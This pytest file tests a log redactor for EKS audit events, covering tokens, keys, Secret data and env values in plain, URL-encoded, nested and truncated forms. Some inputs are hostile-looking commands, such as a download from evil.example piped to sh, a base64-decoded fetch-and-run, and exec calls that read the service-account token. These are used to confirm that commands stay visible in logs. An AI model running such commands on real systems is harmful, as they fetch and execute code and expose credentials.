"""What redaction removes and what it keeps; all credentials here are made up."""

import base64
import json
import os
from pathlib import Path

import pytest

from eks_log_forwarder.control_plane.audit import AuditHeader, ObjectRef
from eks_log_forwarder.redaction import redact

JWT = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJodHRwczovL2V4YW1wbGUifQ.c2lnbmF0dXJlLV8"  # 85 characters
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----\n"
BASE64_PEM = "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFb3c9PQ=="
SECRETS = AuditHeader(object_ref=ObjectRef(resource="secrets"))

TEXTS = [
    # JWTs
    (f"/proxy?jwt={JWT}&x=1", "/proxy?jwt=[REDACTED:85]&x=1", 1),
    (f"/proxy?u=%2Fa%3Fjwt%3D{JWT}%26x", "/proxy?u=%2Fa%3Fjwt%3D[REDACTED:85]%26x", 1),
    (f"a={JWT.replace('.', '%2E')} b", "a=[REDACTED:89] b", 1),
    (f"two {JWT} and {JWT}.", "two [REDACTED:85] and [REDACTED:85].", 2),
    ("jwe eyJhbGciOiJkaXIifQ..aXY.Y2lwaGVy.dGFn!", "jwe [REDACTED:37]!", 1),
    ("cut in the payload eyJhbGciOiJSUzI1NiJ9.eyJpc3", "cut in the payload [REDACTED:27]", 1),
    ("cut in the header eyJhbGciOiJSU", "cut in the header [REDACTED:13]", 1),
    ("cut eyJhbGciOiJSU[Truncated...]", "cut [REDACTED:13][Truncated...]", 1),
    ("?continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEiLCJydiI6MX0", None, 0),
    ("?continue=eyJ2IjoibWV0YS5rOHMuaW8vdjEi", None, 0),
    # bearer tokens
    ("Bearer 0paque-t0ken.x_y~z+/==, next", "Bearer [REDACTED:22], next", 1),
    ("bearer%20s3cret%2Fx%3D%26y", "bearer%20[REDACTED:13]%26y", 1),
    ("base64url.bearer.authorization.k8s.io.ZXlKaGJHY2lPaQ", None, 1),
    ("no bearer token given", None, 0),
    ("Bearer authentication: off", None, 0),
    ('WWW-Authenticate: Bearer realm="x"', None, 0),
    ("/api?access_token=abcdef&watch=1", "/api?access_token=[REDACTED:6]&watch=1", 1),
    ("/api?token=abcdef&watch=1", "/api?token=[REDACTED:6]&watch=1", 1),
    ("/api?a=1\\u0026token=abcdef\\u0026watch=1", "/api?a=1\\u0026token=[REDACTED:6]\\u0026watch=1", 1),
    ("/x%3Ftoken%3Dabcdef%26watch%3D1", "/x%3Ftoken%3D[REDACTED:6]%26watch%3D1", 1),
    ('{"bearerToken":"a b","nextToken":"n"}', '{"bearerToken":"[REDACTED:3]","nextToken":"n"}', 1),
    (
        '{"refresh_token" : "x\\"y","token":"z"}',
        '{"refresh_token" : "[REDACTED:4]","token":"[REDACTED:1]"}',
        2,
    ),
    ('{"bearerTokenFile":"/var/token","path":"token"}', None, 0),
    ('FLAG: --service-account-max-token-expiration="24h0m0s"', None, 0),
    # EKS's own tokens
    (
        "token k8s-aws-v1.aHR0cHM6Ly9zdHMuYQ expired",
        "token k8s-aws-v1.[REDACTED:18] expired",
        1,
    ),
    ("k8s-aws-v1%2EaHR0cHM6Ly9z%26", "k8s-aws-v1%2E[REDACTED:12]%26", 1),
    ("no k8s-aws-v1 prefix", None, 0),
    # Authorization
    ('curl -H "Authorization: Basic dXNlcjpw" u', 'curl -H "Authorization: [REDACTED:14]" u', 1),
    ("command=Authorization%3A+Bearer+abc&x", "command=Authorization%3A+[REDACTED:10]&x", 1),
    ("Authorization:[Bearer abc] Accept:[*]", "Authorization:[[REDACTED:10]] Accept:[*]", 1),
    ('authorization="Bearer abc" x=1', 'authorization="[REDACTED:10]" x=1', 1),
    ("Authorization: AWS4-HMAC-SHA256 Credential=A/b, SignedHeaders=h;x, Signature=ab z", None, 1),
    ('{"Authorization":["Bearer x","Basic y"]}', '{"Authorization":["[REDACTED:8]","[REDACTED:7]"]}', 2),
    ('{"a":"{\\"Authorization\\":\\"pass word\\"}"}', '{"a":"{\\"Authorization\\":\\"[REDACTED:9]\\"}"}', 1),
    (
        '{"name":"Authorization","value":"Basic y"}',
        '{"name":"Authorization","value":"[REDACTED:7]"}',
        1,
    ),
    ('{"annotations":{"authorization.k8s.io/decision":"allow"}}', None, 0),
    ('{"a":"Authorization:","b":"stays"}', None, 0),
    ("--authorization-mode=Node,RBAC", None, 0),
    ("Authorization: Bearer $TOKEN", None, 0),
    # pre-signed URLs
    (
        "?X-Amz-SignedHeaders=host&X-Amz-Security-Token=Fwo%2Fa%3D%3D&X-Amz-Signature=beef",
        "?X-Amz-SignedHeaders=host&X-Amz-Security-Token=[REDACTED:13]&X-Amz-Signature=[REDACTED:4]",
        2,
    ),
    (
        'Get \\"https://s/?X-Amz-Signature=beef\\u0026X-Amz-Credential=AKIA\\": refused',
        'Get \\"https://s/?X-Amz-Signature=[REDACTED:4]\\u0026X-Amz-Credential=AKIA\\": refused',
        1,
    ),
    ("%3FX-Amz-Signature%3Dbeef%26b", "%3FX-Amz-Signature%3D[REDACTED:4]%26b", 1),
    ("%253FX-Amz-Signature%253Dbeef%2526b", "%253FX-Amz-Signature%253D[REDACTED:4]%2526b", 1),
    # private keys
    (f"a {PEM}b", "a [REDACTED:70]\nb", 1),
    (json.dumps({"k": PEM}), '{"k": "[REDACTED:72]\\n"}', 1),
    (json.dumps({"k": json.dumps(PEM)}), '{"k": "\\"[REDACTED:74]\\\\n\\""}', 1),
    ("-----BEGIN PRIVATE KEY-----\nMIIE", "[REDACTED:32]", 1),
    ("-----BEGIN+PRIVATE+KEY-----%0AMIIE&x", "[REDACTED:34]&x", 1),
    ("-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----", None, 0),
    ("-----BEGIN PUBLIC KEY-----\nMIIE", None, 0),
    (f"x: {BASE64_PEM}\n", "x: [REDACTED:56]\n", 1),
    ("caBundle: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUU=", None, 0),
    ("client-key-data: c2VjcmV0\n", "client-key-data: [REDACTED:8]\n", 1),
    ('{"client-key-data":"c2VjcmV0"}', '{"client-key-data":"[REDACTED:8]"}', 1),
    ("client-certificate-data: c2VjcmV0", None, 0),
    # what stays
    ('{"extra":{"accessKeyId":["ASIAEXAMPLE000000000"]}}', None, 0),
    ('{"extra":{"authentication.kubernetes.io/credential-id":["JTI=1d2e-3f"]}}', None, 0),
    ("/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fserviceaccount%2Ftoken", None, 0),
    ("/exec?command=mysql&command=--password%3Dhunter2", None, 0),
    ("", None, 0),
]


@pytest.mark.parametrize(("text", "expected", "count"), TEXTS)
def test_redacts_text_by_form(text: str, expected: str | None, count: int) -> None:
    """Each form of credential gives one marker with its length, and nothing else changes."""
    redacted, found = redact(text)
    assert found == count
    if expected is not None:
        assert redacted == expected
    elif count == 0:
        assert redacted is text


def _event(resource: str, **bodies: object) -> str:
    """An audit event as Go's encoder writes it: no spaces."""
    head = {"kind": "Event", "auditID": "a", "objectRef": {"resource": resource}}
    return json.dumps(head | bodies, separators=(",", ":"))


def _pod(*env: object) -> dict[str, object]:
    return {"kind": "Pod", "spec": {"containers": [{"name": "c", "env": list(env)}]}}


FROM_SECRET = {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}
SECRET = {"apiVersion": "v1", "data": {"p": "eA=="}, "kind": "Secret", "metadata": {"name": "s"}}

BODIES = [
    # container env: (resource, requestObject, what it becomes, count)
    (
        "pods",
        _pod({"name": "DB_PASSWORD", "value": "x y"}),
        _pod({"name": "DB_PASSWORD", "value": "[REDACTED:3]"}),
        1,
    ),
    ("pods", _pod({"value": "x", "name": "apiKey"}), _pod({"value": "[REDACTED:1]", "name": "apiKey"}), 1),
    ("pods", _pod({"name": "TOKEN", "value": 'a"\\b'}), _pod({"name": "TOKEN", "value": "[REDACTED:6]"}), 1),
    ("pods", _pod({"name": "LOG_LEVEL", "value": "x"}, FROM_SECRET, {"name": "KEY", "value": ""}), None, 0),
    (
        "cronjobs",
        {
            "spec": {
                "jobTemplate": {"spec": {"template": _pod(FROM_SECRET, {"name": "A_SECRET", "value": "é"})}}
            }
        },
        {
            "spec": {
                "jobTemplate": {
                    "spec": {"template": _pod(FROM_SECRET, {"name": "A_SECRET", "value": "[REDACTED:6]"})}
                }
            }
        },
        1,
    ),
    (
        "deployments",
        _pod({"$patch": "replace"}, {"name": "MY_TOKEN", "$x": {"y": ["z"]}, "value": "v"}),
        _pod({"$patch": "replace"}, {"name": "MY_TOKEN", "$x": {"y": ["z"]}, "value": "[REDACTED:1]"}),
        1,
    ),
    ("pods", {"args": [{"name": "password", "value": "not env"}], "envFrom": [{"name": "key"}]}, None, 0),
    (
        "pods",
        [
            {"op": "add", "path": "/spec/containers/0/env/-", "value": {"name": "KEY", "value": "v"}},
            {"op": "add", "path": "/spec/containers/0/env", "value": [{"name": "KEY", "value": "v"}]},
            {"op": "add", "path": "/spec/containers/0/env/-", "value": {"name": "PORT", "value": "v"}},
            {"value": "v", "op": "replace", "path": "/spec/containers/0/env/2/value"},
            {"op": "replace", "path": "/spec/containers/0/image", "value": "v"},
        ],
        [
            {
                "op": "add",
                "path": "/spec/containers/0/env/-",
                "value": {"name": "KEY", "value": "[REDACTED:1]"},
            },
            {
                "op": "add",
                "path": "/spec/containers/0/env",
                "value": [{"name": "KEY", "value": "[REDACTED:1]"}],
            },
            {"op": "add", "path": "/spec/containers/0/env/-", "value": {"name": "PORT", "value": "v"}},
            {"value": "[REDACTED:1]", "op": "replace", "path": "/spec/containers/0/env/2/value"},
            {"op": "replace", "path": "/spec/containers/0/image", "value": "v"},
        ],
        3,
    ),
    # Secret data
    ("secrets", {"data": {"p": "eA==", "n": None}}, {"data": {"p": "[REDACTED:4]", "n": None}}, 1),
    (
        "secrets",
        {"stringData": {"p": "x"}, "type": "t"},
        {"stringData": {"p": "[REDACTED:1]"}, "type": "t"},
        1,
    ),
    ("secrets", {"metadata": {"annotations": {"data": "x"}}}, None, 0),
    (
        "mirrors",
        {"metadata": {"x": [SECRET]}},
        {"metadata": {"x": [SECRET | {"data": {"p": "[REDACTED:4]"}}]}},
        1,
    ),
    ("configmaps", {"kind": "ConfigMap", "data": {"p": "x"}}, None, 0),
    ("pods", {"spec": {"volumes": [{"secret": {"secretName": "s"}}]}, "data": {"p": "x"}}, None, 0),
    (
        "mirrors",
        {"spec": {"template": SECRET}},
        {"spec": {"template": SECRET | {"data": {"p": "[REDACTED:4]"}}}},
        1,
    ),
    (
        "mirrors",
        {"kind": "List", "items": [{"kind": "ConfigMap", "data": {"a": "b"}}, SECRET]},
        {
            "kind": "List",
            "items": [{"kind": "ConfigMap", "data": {"a": "b"}}, SECRET | {"data": {"p": "[REDACTED:4]"}}],
        },
        1,
    ),
    (
        "mirrors",
        {"items": [{"data": {"p": "x"}}, {"stringData": {"p": "y"}}], "kind": "SecretList"},
        {
            "items": [{"data": {"p": "[REDACTED:1]"}}, {"stringData": {"p": "[REDACTED:1]"}}],
            "kind": "SecretList",
        },
        2,
    ),
    (
        "secrets",
        [
            {"op": "add", "path": "/data/password", "value": "v"},
            {"op": "replace", "path": "/stringData", "value": {"a": "v", "b": "w"}},
            {"op": "add", "path": "/metadata/labels/data", "value": "v"},
            {"op": "remove", "path": "/data/old"},
        ],
        [
            {"op": "add", "path": "/data/password", "value": "[REDACTED:1]"},
            {"op": "replace", "path": "/stringData", "value": {"a": "[REDACTED:1]", "b": "[REDACTED:1]"}},
            {"op": "add", "path": "/metadata/labels/data", "value": "v"},
            {"op": "remove", "path": "/data/old"},
        ],
        3,
    ),
    (
        "secrets",
        [{"op": "add", "path": "", "value": SECRET}],
        [{"op": "add", "path": "", "value": SECRET | {"data": {"p": "[REDACTED:4]"}}}],
        1,
    ),
]


@pytest.mark.parametrize(("resource", "body", "expected", "count"), BODIES)
def test_redacts_bodies_by_structure(resource: str, body: object, expected: object, count: int) -> None:
    """The structure around a value decides; keys, types and order stay."""
    text = _event(resource, requestObject=body, responseObject={})
    after = _event(resource, requestObject=body if expected is None else expected, responseObject={})
    assert redact(text) == (after, count)


# Lengths are of escaped text, so bodies whose secrets have escapes stay out; a patch is never a string.
NESTED = [case for case in BODIES if isinstance(case[1], dict) and json.dumps(case[1]).find("\\") < 0]


@pytest.mark.parametrize(("resource", "body", "expected", "count"), NESTED)
@pytest.mark.parametrize("depth", [1, 2, 3])
def test_redacts_json_inside_strings(
    depth: int, resource: str, body: object, expected: object, count: int
) -> None:
    """The same bodies as text in an annotation, and as text in text, lose the same values."""

    def event(content: object) -> str:
        for _ in range(depth):
            content = {"metadata": {"annotations": {"last-applied": json.dumps(content)}}}
        return _event(resource, responseObject=content)

    assert redact(event(body)) == (event(body if expected is None else expected), count)


def test_redacts_a_webhook_s_patch_in_an_audit_annotation() -> None:
    """The API server notes a mutating webhook's JSON patch as JSON in an annotation."""
    key = "patch.webhook.admission.k8s.io/round_0_index_1"

    def event(value: str) -> str:
        operation = {
            "op": "add",
            "path": "/spec/containers/0/env/-",
            "value": {"name": "KEY", "value": value},
        }
        patch = json.dumps({"webhook": "w", "patch": [operation]})
        return _event("pods", requestObject={}, annotations={key: patch})

    assert redact(event("hunter")) == (event("[REDACTED:6]"), 1)


def test_recognises_secrets_by_the_header_where_the_text_does_not_say() -> None:
    """The objectRef of the header counts where the text has none."""
    text = '{"requestObject":{"data":{"p":"x"}}}'
    assert redact(text) == (text, 0)
    assert redact(text, SECRETS) == ('{"requestObject":{"data":{"p":"[REDACTED:1]"}}}', 1)


CUT = [
    ('{"objectRef":{"resource":"secrets"},"requestObject":{"data":{"a":"eHh4', "eHh4", "[REDACTED:4]"),
    (
        '{"objectRef":{"resource":"secrets"},"requestObject":{"data":{"a":"eHh4[Truncated...]',
        "eHh4",
        "[REDACTED:4]",
    ),
    (
        '{"objectRef":{"resource":"secrets"},"requestObject":{"x":"{\\"data\\":{\\"a\\":\\"eHh4',
        "eHh4",
        "[REDACTED:4]",
    ),
    ('{"requestObject":{"kind":"Secret","data":{"a":"eHh4', "eHh4", "[REDACTED:4]"),
    ('{"requestObject":{"env":[{"name":"A_KEY","value":"hunt', "hunt", "[REDACTED:4]"),
    ('{"requestObject":{"env":[{"value":"hunt","na', "hunt", "[REDACTED:4]"),
    (
        '{"requestObject":{"x":"{\\"env\\":[{\\"name\\":\\"A_KEY\\",\\"value\\":\\"hunt\\\\',
        "hunt\\\\",
        "[REDACTED:6]",
    ),
    ('{"requestObject":[{"op":"add","path":"/x/env/0/value","value":"hunt', "hunt", "[REDACTED:4]"),
    (
        '{"requestObject":{"x":"-----BEGIN PRIVATE KEY-----\\nMIIE',
        "-----BEGIN PRIVATE KEY-----\\nMIIE",
        "[REDACTED:33]",
    ),
    ('{"requestObject":{"Authorization":"opaq', "opaq", "[REDACTED:4]"),
]


@pytest.mark.parametrize(("text", "secret", "marker"), CUT)
def test_redacts_cut_events_up_to_the_cut(text: str, secret: str, marker: str) -> None:
    """The part of a secret before the cut is removed; the mark of the cut stays."""
    assert redact(text) == (text.replace(secret, marker), 1)


LINE = "A1b2C3d4" * 8
BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("text", "expected", "count"),
    [
        (f": {BEGIN}\nwget -O /tmp/a evil.example\nsh /tmp/a", None, 0),
        (f'{{"c":": {BEGIN}\\nwget evil.example/a\\nsh a"}}', None, 0),
        (f'{{"c":": {BEGIN}\\u000awget evil.example/a\\u000Ash a"}}', None, 0),
        (f"/exec?command=%3A%20{BEGIN}%0Awget%20evil.example%2Fa%0Ash", None, 0),
        (f"{BEGIN}\nreboot\n{END}", None, 0),
        (f"{BEGIN}\n/bin/sh\n{END}", None, 0),
        (f"{BEGIN}\n{LINE}\nsh /tmp/a\n{END}", f"[REDACTED:92]\nsh /tmp/a\n{END}", 1),
        (f'{{"c":"{BEGIN}\\n{LINE}\\nsh /tmp/a"}}', '{"c":"[REDACTED:93]\\nsh /tmp/a"}', 1),
        (f"{BEGIN}\n{LINE}\n{LINE}\nAbc=\n{END}", "[REDACTED:188]", 1),
        (f"{BEGIN} {LINE} Abc= {END} x", "[REDACTED:123] x", 1),
        (f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,AB12\n\n{LINE}\n", "[REDACTED:143]\n", 1),
        (f"echo {_base64(f'{BEGIN}\nwget evil.example/a')}|base64 -d|sh", None, 0),
        (f"a {_base64(f'{BEGIN}\n{LINE}\n{END}\n')} b", "a [REDACTED:160] b", 1),
    ],
)
def test_a_key_s_first_line_hides_no_command(text: str, expected: str | None, count: int) -> None:
    """After the header only lines that have the form of a key go; what stands behind them stays."""
    assert redact(text) == (text if expected is None else expected, count)


def test_a_string_with_too_much_nesting_becomes_one_marker() -> None:
    """The string that holds it goes as a whole, and nothing beside it."""
    deep = "[" * 300
    text = json.dumps({"requestObject": {"kind": "Pod", "a": {"b": f'{{"env":{deep}', "c": "stays"}}})
    expected = json.dumps({"requestObject": {"kind": "Pod", "a": {"b": "[REDACTED:309]", "c": "stays"}}})
    assert redact(text) == (expected, 1)


def test_a_body_with_too_many_items_becomes_one_string_in_it() -> None:
    """The body stays an object, and what stands outside the bodies stays as it is."""
    items = [{"k": "v"}] * 4000
    event = {"verb": "create", "requestObject": {"kind": "Secret", "items": items}, "stage": "s"}
    text = json.dumps(event, separators=(",", ":"))
    removed = len(json.dumps(event["requestObject"], separators=(",", ":"))) - 2
    redacted, count = redact(text)
    assert count == 1
    assert json.loads(redacted) == event | {"requestObject": {"redacted": f"[REDACTED:{removed}]"}}
    assert redact(redacted) == (redacted, 0)


def test_a_string_with_too_many_credentials_has_one_marker() -> None:
    """10,000 markers in an event are the bound; beyond it, one for each string."""
    many = " ".join(["eyJa.b"] * 10_001)
    text = json.dumps({"requestObject": {"a": f"x {many} y", "b": "eyJa.b"}})
    expected = json.dumps({"requestObject": {"a": "x [REDACTED:70006] y", "b": "[REDACTED:6]"}})
    assert redact(text) == (expected, 2)


def test_leaves_keys_as_they_are() -> None:
    """A credential in a key stays, since a changed key would be another field."""
    text = '{"JWT":"JWT","k:{\\"x\\":\\"JWT\\"}" : {}}'
    expected = '{"JWT":"[REDACTED:85]","k:{\\"x\\":\\"JWT\\"}" : {}}'
    assert redact(text.replace("JWT", JWT)) == (expected.replace("JWT", JWT), 1)


def test_does_not_break_an_escape_that_looks_like_a_token() -> None:
    """The last hexadecimal digit of an escape can be the first letter of what looks like a JWT."""
    text = '{"x":"\\u00eeyJhbGciOi.eyJ.abc"}'
    redacted, _ = redact(text)
    assert json.loads(redacted)["x"].startswith("î")


def test_finds_nothing_in_the_published_corpus() -> None:
    """None of the 1,977 published lines holds a credential, so none is changed."""
    folder = os.environ.get("EKS_LOG_CORPUS")
    if not folder:
        pytest.skip("EKS_LOG_CORPUS does not name the folder of published log lines")
    files = [path for path in Path(folder).iterdir() if path.suffix in {".log", ".ndjson"}]
    lines = [line for path in files for line in path.read_text().splitlines()]
    assert (len(lines), [line for line in lines if redact(line) != (line, 0)]) == (1977, [])
